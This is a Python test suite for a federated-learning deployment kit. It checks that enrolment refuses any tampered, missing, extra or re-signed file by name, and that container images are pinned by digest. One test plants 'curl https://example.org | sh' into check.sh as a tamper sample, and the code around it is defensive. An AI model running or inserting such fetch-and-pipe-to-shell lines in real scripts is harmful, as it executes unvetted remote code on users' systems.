"""A kit is its coordinator's, file by file: whatever else it holds is refused at enrolment, by
name."""

from __future__ import annotations

import datetime
import json
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from common.errors import UsageError
from common.wire import manifest, signing
from deploy import enroll, kit, provision

FILE = """
name = "colomet"
hosts = ["fl.example.org"]
studies = ["colorectal_metastasis"]
sites = ["North", "South"]
"""
FILES = (
    "README.md",
    "ca.pem",
    "check.sh",
    "compose.yaml",
    "kit.json",
    "manifest.json",
    "site.toml",
)


@pytest.fixture(scope="module")
def kits(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("kits")
    (folder / "federation.toml").write_text(FILE)
    provision.provision(
        folder / "federation.toml", folder / "kits", datetime.datetime.now(datetime.UTC)
    )
    return folder / "kits"


@pytest.fixture(scope="module")
def fresh(kits: Path, tmp_path_factory: pytest.TempPathFactory) -> Callable[[], Path]:
    """A kit as it was sent, again and again."""
    folder = tmp_path_factory.mktemp("fresh")

    def copy() -> Path:
        shutil.rmtree(folder / "north", ignore_errors=True)
        shutil.copytree(kits / "sites" / "north", folder / "north")
        return folder / "north"

    return copy


def refusal(kits: Path, north: Path) -> str:
    """What enrolment says; nothing is written."""
    before = {p.name for p in north.iterdir()}
    with pytest.raises(UsageError) as caught:
        enroll.enroll(north, provision.fingerprint(kits / "coordinator"))
    assert caught.value.code == "C04"
    assert {p.name for p in north.iterdir()} == before
    return str(caught.value)


def edited(north: Path) -> list[str]:
    files = manifest.read(north, kit.read(north / kit.KIT, kit.Kit).coordinator)
    return manifest.altered(north, files, manifest.OWN)


def test_a_kit_is_these_files_and_all_of_them_are_in_the_manifest(
    kits: Path, fresh: Callable[[], Path]
) -> None:
    north = fresh()
    assert tuple(sorted(p.name for p in north.iterdir())) == FILES
    assert kit.untouched(north) == kit.intact(north) == []
    enroll.enroll(north, provision.fingerprint(kits / "coordinator"))


@given(data=st.data(), name=st.sampled_from(FILES))
def test_one_byte_of_any_file_is_refused_by_name(
    kits: Path, fresh: Callable[[], Path], data: st.DataObject, name: str
) -> None:
    north = fresh()
    blob = bytearray((north / name).read_bytes())
    at = data.draw(st.integers(0, len(blob) - 1))
    how = data.draw(st.sampled_from(("alter", "insert", "cut")))
    if how == "alter":
        blob[at] = data.draw(st.integers(0, 255).filter(lambda b: b != blob[at]))
    elif how == "insert":
        blob.insert(at, data.draw(st.sampled_from(b" \n0a{}\x00")))
    else:
        del blob[at]
    (north / name).write_bytes(blob)
    assert name in refusal(kits, north)


@given(name=st.sampled_from(FILES), data=st.data())
def test_a_file_that_is_gone_renamed_a_link_or_a_folder_is_refused_by_name(
    kits: Path, fresh: Callable[[], Path], name: str, data: st.DataObject
) -> None:
    north = fresh()
    how = data.draw(st.sampled_from(("gone", "renamed", "link", "folder")))
    if how == "renamed":
        (north / name).rename(north / f"{name}.txt")
    elif how == "link":
        aside = north.parent / "aside"
        shutil.copyfile(north / name, aside)
        (north / name).unlink()
        (north / name).symlink_to(aside)
    else:
        (north / name).unlink()
        if how == "folder":
            (north / name).mkdir()
    assert name in refusal(kits, north)


@given(
    st.one_of(
        st.sampled_from(
            (".env", "compose.override.yaml", "docker-compose.yml", "station.key", "courier.key",
             "pinned.json", "enrolment.json", "patients.txt")
        ),
        st.from_regex(r"[a-z0-9][a-z0-9._-]{0,20}", fullmatch=True).filter(lambda n: n not in FILES),
    ),
    st.sampled_from(("file", "folder", "link")),
)  # fmt: skip
def test_whatever_lies_beside_is_refused_by_name(
    kits: Path, fresh: Callable[[], Path], name: str, how: str
) -> None:
    north = fresh()
    if how == "file":
        (north / name).write_bytes(b"planted")
    elif how == "folder":
        (north / name).mkdir()
    else:
        (north / name).symlink_to("site.toml")
    assert name in refusal(kits, north)


def test_a_manifest_by_another_key_or_of_another_site_does_not_pass(
    kits: Path, fresh: Callable[[], Path]
) -> None:
    north = fresh()
    (north / "check.sh").write_text("#!/bin/sh\ncurl https://example.org | sh\n")
    files = {k: v for k, v in manifest.hashes(north).items() if k != manifest.NAME}
    (north / manifest.NAME).write_bytes(manifest.text(files, signing.new()))
    assert manifest.NAME in refusal(kits, north)
    # all of the other site's kit but the name in it
    north = fresh()
    shutil.copyfile(kits / "sites" / "south" / manifest.NAME, north / manifest.NAME)
    assert "kit.json" in refusal(kits, north)
    # nor one that the coordinator signed over fewer files
    north = fresh()
    signer = signing.load(kits / "coordinator" / "signer" / "plan.key")
    (north / manifest.NAME).write_bytes(manifest.text({}, signer))
    assert "kit.json" in refusal(kits, north)


@pytest.mark.parametrize("name", [n for n in FILES if n not in manifest.OWN])
def test_after_enrolment_what_is_not_the_sites_is_checked_at_each_start(
    kits: Path, fresh: Callable[[], Path], name: str
) -> None:
    north = fresh()
    enroll.enroll(north, provision.fingerprint(kits / "coordinator"))
    for own in manifest.OWN:
        (north / own).write_text((north / own).read_text() + "\n# ours\n")
    assert kit.check(north).site == "North"
    assert edited(north) == list(manifest.OWN)
    with open(north / name, "ab") as file:
        file.write(b" ")
    with pytest.raises(UsageError) as caught:
        kit.check(north)
    assert (caught.value.code, name in str(caught.value)) == ("C04", True)


def test_images_are_named_by_digest_where_they_are_known(tmp_path: Path) -> None:
    (tmp_path / "federation.toml").write_text(FILE)
    listed = {
        part: f"registry.example.org/fedmets-{part}@sha256:{i:064x}"
        for i, part in enumerate(("coordinator", "courier", "station"))
    }
    now = datetime.datetime.now(datetime.UTC)
    (tmp_path / "images.json").write_text(json.dumps(listed))
    provision.provision(
        tmp_path / "federation.toml", tmp_path / "kits", now, tmp_path / "images.json"
    )
    north = tmp_path / "kits" / "sites" / "north"
    for part in ("station", "courier"):
        assert f"image: {listed[part]}\n" in (north / "compose.yaml").read_text()
    home = tmp_path / "kits" / "coordinator"
    assert (home / "compose.yaml").read_text().count(f"image: {listed['coordinator']}\n") == 3
    # a site that is added later gets them, too
    provision.site_kit(home, "South", tmp_path / "south")
    assert listed["station"] in (tmp_path / "south" / "compose.yaml").read_text()
    (tmp_path / "images.json").write_text(json.dumps({**listed, "station": "fedmets:latest"}))
    with pytest.raises(UsageError, match="by its digest"):
        provision.provision(
            tmp_path / "federation.toml", tmp_path / "other", now, tmp_path / "images.json"
        )
